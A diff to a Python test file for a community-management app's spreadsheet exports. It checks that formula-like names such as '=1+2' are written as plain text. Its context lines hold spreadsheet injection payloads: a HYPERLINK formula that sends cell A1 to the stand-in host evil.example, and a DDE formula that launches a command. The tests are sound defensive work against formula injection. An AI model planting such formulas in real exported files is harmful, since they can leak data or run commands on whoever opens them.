@@ -20,6 +20,7 @@ from wuye.notices.domain.activities import activity_signup
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 DDE = "=cmd|' /C calc'!A0"
+SHORT_LINK = '=HYPERLINK("http://e.x","点")'  # fits a person's name (40 characters)
 
 
 @pytest.fixture
@@ -79,12 +80,12 @@ def test_households_export_writes_formula_names_as_text_and_imports_back_unchang
 def test_activity_attendees_export_writes_formula_names_as_text(admin_client, community):
     activity = ActivityFactory(community=community, title="=1+2", place="-B2")
     household = HouseholdRoomFactory(household__community=community, household__name="@家").household
-    activity_signup(activity=activity, person=PersonFactory(household=household, name=HYPERLINK))
+    activity_signup(activity=activity, person=PersonFactory(household=household, name=SHORT_LINK))
 
     response = admin_client.get(reverse("console:activity_export", args=[activity.pk]))
 
     texts = _texts(_workbook_check(response))
-    assert {"=1+2", "-B2", "@家", HYPERLINK} <= texts
+    assert {"=1+2", "-B2", "@家", SHORT_LINK} <= texts
 
 
 @pytest.mark.parametrize("name", ["console:import_template", "console:readings_template"])
